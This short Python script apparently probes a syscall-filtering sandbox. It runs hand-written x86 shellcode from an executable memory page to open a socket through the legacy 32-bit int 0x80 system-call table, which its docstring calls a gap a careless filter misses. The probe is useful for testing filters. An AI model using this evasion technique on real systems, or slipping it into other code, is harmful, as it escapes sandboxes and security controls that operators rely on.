"""Make a socket through the 32-bit table of system calls, which a careless filter forgets."""

import ctypes
import mmap

# mov eax, 359 (socket, in the 32-bit table); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret
CODE = bytes.fromhex("b867010000 bb02000000 b901000000 31d2 cd80 c3".replace(" ", ""))

page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
print("GOT", ctypes.CFUNCTYPE(ctypes.c_int)(address)(), file=__import__("sys").stderr)
